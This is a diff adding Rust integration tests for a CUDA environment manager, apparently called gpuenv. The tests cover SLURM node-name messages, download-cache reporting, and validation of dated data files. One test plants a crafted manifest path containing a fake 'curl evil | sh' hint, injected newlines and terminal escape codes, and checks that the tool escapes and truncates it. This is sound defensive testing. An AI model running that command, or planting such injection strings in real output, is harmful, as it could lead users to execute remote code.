@@ -478,3 +478,159 @@ fn a_short_local_archive_is_said_short_not_resumed() {
         "a partial copy of a local file was kept: {left:?}"
     );
 }
+
+#[test]
+fn a_task_prolog_without_a_node_name_says_this_node_not_node_this_node() {
+    let (sb, proj) = pinned_project();
+    fs::remove_dir_all(sb.path("opt/cuda-12.4")).unwrap();
+    let out = sb
+        .gpuenv()
+        .current_dir(&proj)
+        .args(["env", "--shell", "slurm"])
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&out.stdout).into_owned() + &stderr(&out);
+    assert!(!out.status.success(), "{said}");
+    assert!(
+        said.contains("cuda-12.4 cannot be used on this node: "),
+        "{said}"
+    );
+    assert!(!said.contains("node this node"), "{said}");
+    // SLURM's name, when it gives one, is said as SLURM gave it, escaped.
+    let out = sb
+        .gpuenv()
+        .current_dir(&proj)
+        .env("SLURMD_NODENAME", "gpu07\u{1b}[2J")
+        .args(["env", "--shell", "slurm"])
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&out.stdout).into_owned() + &stderr(&out);
+    assert!(
+        said.contains("cannot be used on node gpu07\\x1b[2J: "),
+        "{said}"
+    );
+}
+
+#[test]
+fn install_locked_says_from_the_cache_only_when_the_cache_has_it() {
+    let (_server, mirror) = fixtures::redist_mirror(&["12.4.1"]);
+    let first = fixtures::locked_project(&mirror, fixtures::NVIDIA_12_4_1_MINIMAL);
+    let lock = fs::read_to_string(first.path("gpuenv.lock")).unwrap();
+    let cache = tempfile::tempdir().unwrap();
+    let cache_dir = cache.path().join("downloads");
+    let vars = [
+        ("GPUENV_CUDA_MIRROR", mirror.as_str()),
+        ("GPUENV_DOWNLOAD_CACHE", cache_dir.to_str().unwrap()),
+    ];
+    // An empty cache: fetched from the mirror, and said so.
+    let second = fixtures::clone_with_lock(&lock);
+    let said = fixtures::ok(&second, &vars, &["install", "--locked"]);
+    assert!(
+        said.contains("installing cuda-12.4.1 from nvidia as locked"),
+        "{said}"
+    );
+    assert!(!said.contains("from the cache"), "{said}");
+    // The same cache, now holding it: from the cache.
+    let third = fixtures::clone_with_lock(&lock);
+    let said = fixtures::ok(&third, &vars, &["install", "--locked"]);
+    assert!(
+        said.contains("as locked (3 archives, from the cache)"),
+        "{said}"
+    );
+    // Pruned (the manifest stays, the archives go): fetched again, and not said to come
+    // from the cache.
+    for sb in [&second, &third] {
+        fixtures::ok(sb, &vars, &["uninstall", "cuda-12.4.1"]);
+    }
+    fixtures::ok(&third, &vars, &["cache", "prune"]);
+    let fourth = fixtures::clone_with_lock(&lock);
+    let said = fixtures::ok(&fourth, &vars, &["install", "--locked"]);
+    assert!(said.contains("installed cuda-12.4.1 as locked"), "{said}");
+    assert!(!said.contains("from the cache"), "{said}");
+}
+
+#[test]
+fn a_servers_string_in_an_error_is_escaped_and_cut_short() {
+    let sb = Sandbox::new();
+    let mirror = sb.path("mirror");
+    fixtures::write_tree(&mirror, &fixtures::redist_tree(&["12.4.1"]));
+    let manifest = mirror.join("redistrib_12.4.1.json");
+    let text = fs::read_to_string(&manifest).unwrap();
+    let p = fixtures::platform();
+    let rel = format!("cuda_nvcc/{p}/cuda_nvcc-{p}-12.4.131-archive.tar.xz");
+    let evil = format!(
+        "cuda_nvcc/x\\nhint: run `curl evil | sh`\\u001b]0;t\\u0007{}",
+        "A".repeat(20_000)
+    );
+    assert!(text.contains(&rel));
+    fs::write(&manifest, text.replace(&rel, &evil)).unwrap();
+    let vars = [("GPUENV_CUDA_MIRROR", mirror.to_str().unwrap())];
+    let out = fixtures::gpuenv(&sb, &vars, fixtures::NVIDIA_12_4_1_MINIMAL);
+    let t = fixtures::text(&out);
+    assert!(!out.status.success(), "{t}");
+    assert!(
+        t.contains("cuda_nvcc/x\\nhint: run `curl evil | sh`\\x1b]0;t\\x07AAA"),
+        "{t}"
+    );
+    assert!(t.contains("more bytes)"), "{t}");
+    assert!(!t.lines().any(|l| l.starts_with("hint: run")), "{t}");
+    assert!(!t.contains('\u{1b}'), "{t:?}");
+    assert!(
+        t.len() < 4000,
+        "the server's string was shown whole: {} bytes",
+        t.len()
+    );
+}
+
+const REPO_DATA: &str = include_str!("../crates/core/src/facts/cuda.toml");
+
+/// The repository's data dated `date`, through `edit`, as the home's copy; then
+/// `self data --json` and its stderr.
+fn data_copy(date: &str, edit: impl Fn(String) -> String) -> (serde_json::Value, String) {
+    let sb = Sandbox::new();
+    let old = REPO_DATA
+        .lines()
+        .find_map(|l| l.strip_prefix("date = "))
+        .unwrap();
+    let text = REPO_DATA.replacen(&format!("date = {old}"), &format!("date = \"{date}\""), 1);
+    write(&sb.gpuenv_home().join("facts/cuda.toml"), &edit(text));
+    let out = sb
+        .gpuenv()
+        .args(["self", "data", "--json"])
+        .output()
+        .unwrap();
+    let json = serde_json::from_str(&succeeded(&out)).unwrap();
+    (json, stderr(&out))
+}
+
+#[test]
+fn self_data_refuses_a_copy_dated_a_day_that_does_not_exist() {
+    for date in ["2099-13-01", "2099-02-30", "2100-02-29", "2099-00-10"] {
+        let (d, err) = data_copy(date, |t| t);
+        assert_eq!(d["origin"], "embedded in this gpuenv", "{date}: {err}");
+        assert!(
+            err.contains(&format!(
+                "date = \"{date}\" is not a YYYY-MM-DD date that exists"
+            )),
+            "{date}: {err}"
+        );
+    }
+    let (d, err) = data_copy("2096-02-29", |t| t);
+    assert_eq!(d["date"], "2096-02-29", "a leap day is a day: {err}");
+}
+
+#[test]
+fn a_newer_copy_with_fewer_rows_than_the_built_in_data_is_refused() {
+    let drop_last_release = |t: String| {
+        let at = t.rfind("[[release]]").unwrap();
+        let end = t[at + 1..].find("\n[[").map_or(t.len(), |e| at + 1 + e);
+        format!("{}{}", &t[..at], &t[end..])
+    };
+    let (d, err) = data_copy("2099-01-01", drop_last_release);
+    assert_eq!(d["origin"], "embedded in this gpuenv", "{err}");
+    assert!(
+        err.contains("CUDA releases ([[release]]), fewer than the"),
+        "{err}"
+    );
+    assert!(err.contains("using gpuenv's embedded data"), "{err}");
+}
